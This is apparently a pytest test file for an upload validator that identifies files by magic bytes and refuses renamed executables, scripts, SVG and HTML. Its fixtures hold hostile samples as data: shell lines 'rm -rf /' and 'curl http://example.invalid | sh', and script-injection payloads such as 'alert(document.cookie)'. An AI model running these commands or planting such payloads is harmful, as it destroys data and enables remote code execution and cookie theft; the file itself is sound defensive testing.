"""sniff_type: magic bytes decide, names never do; refused look-alikes are refused before Pillow."""

import pytest
from PIL import Image

from pintu.files import UploadRejected, clean_upload, sniff_type

from .builders import image_bytes, pdf_bytes, zip_bytes

KNOWN = [
    (b"\xff\xd8\xff\xe0\x00\x10JFIF", "image/jpeg"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image/png"),
    (b"RIFF\x10\x00\x00\x00WEBPVP8 ", "image/webp"),
    (b"%PDF-1.7\n", "application/pdf"),
    (b"GIF89a\x01\x00", "image/gif"),
    (b"GIF87a\x01\x00", "image/gif"),
    (b"II*\x00\x08\x00", "image/tiff"),
    (b"\x00\x00\x00\x18ftypheic\x00\x00", "image/heic"),
    (b"\x00\x00\x00\x1cftypavif\x00\x00", "image/avif"),
    (b"PK\x03\x04\x14\x00", "application/zip"),
    (b"PK\x05\x06" + b"\x00" * 18, "application/zip"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00", "application/x-ole-storage"),
    (b"\x7fELF\x02\x01\x01", "application/x-elf"),
    (b"MZ\x90\x00\x03\x00", "application/x-msdownload"),
    (b"#!/bin/sh\nrm -rf /\n", "text/x-shellscript"),
    (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/svg+xml"),
    (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml"),
    (b"\xef\xbb\xbf  \r\n\t<svg/>", "image/svg+xml"),
    ("\ufeff<svg onload='x'/>".encode("utf-16-le"), "image/svg+xml"),
    (b'<?xml version="1.0"?><note/>', "application/xml"),
    (b"<!DOCTYPE html><html><script>alert(1)</script>", "text/html"),
    (b"\n\n   <html>", "text/html"),
    (b"<script>alert(1)</script>", "text/html"),
]


@pytest.mark.parametrize(("head", "expected"), KNOWN)
def test_sniff_known(head, expected):
    assert sniff_type(head) == expected


@pytest.mark.parametrize(
    "head",
    [b"", b"\xff\xd8", b"hello world", b"BM6\x00\x00", b" %PDF-1.7", b"junk\n%PDF-1.7\n", b"RIFF\x00\x00\x00\x00WAVE"],
)
def test_sniff_unknown(head):
    # PDF must start at offset 0, although the spec allows the header in the first 1024 bytes.
    assert sniff_type(head) is None


def test_sniff_reads_only_the_head():
    assert sniff_type(b"\xff\xd8\xff" + b"\x00" * 10_000) == "image/jpeg"
    assert sniff_type(b" " * 2000 + b"<svg/>") is None  # beyond the first 1024 bytes


def _gif() -> bytes:
    return image_bytes("GIF", mode="P", color=1)


def _tiff() -> bytes:
    return image_bytes("TIFF")


REFUSED = {
    "exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200 + b"This program cannot be run",
    "elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 100,
    "svg": b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "html": b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>",
    "shell": b"#!/bin/bash\ncurl http://example.invalid | sh\n",
    "zip": zip_bytes(),
    "gif": _gif(),
    "tiff": _tiff(),
    "bmp": image_bytes("BMP"),
    "text": b"Laporan jalan rusak di Desa Tanjung Seteko",
    "pdf-not-at-0": b"\n\n" + pdf_bytes(),
}


@pytest.mark.parametrize("kind", sorted(REFUSED))
def test_renamed_files_are_refused_by_content(kind, monkeypatch):
    def no_pillow(*args, **kwargs):
        raise AssertionError("Pillow must not see a file whose type is not allowed")

    monkeypatch.setattr(Image, "open", no_pillow)
    with pytest.raises(UploadRejected) as caught:
        clean_upload("foto.jpg", REFUSED[kind])
    assert caught.value.code == "type_not_allowed"
    assert caught.value.name == "foto.jpg"
    assert "foto.jpg" in caught.value.message_id


def test_client_name_and_type_play_no_part():
    """A real PNG called .pdf is a PNG; a PDF called .jpg is a PDF."""
    png = clean_upload("surat.pdf", image_bytes("PNG"))
    assert (png.content_type, png.extension, png.original_name) == ("image/png", ".png", "surat.png")
    pdf = clean_upload("foto.jpg", pdf_bytes())
    assert (pdf.content_type, pdf.extension, pdf.original_name) == ("application/pdf", ".pdf", "foto.pdf")
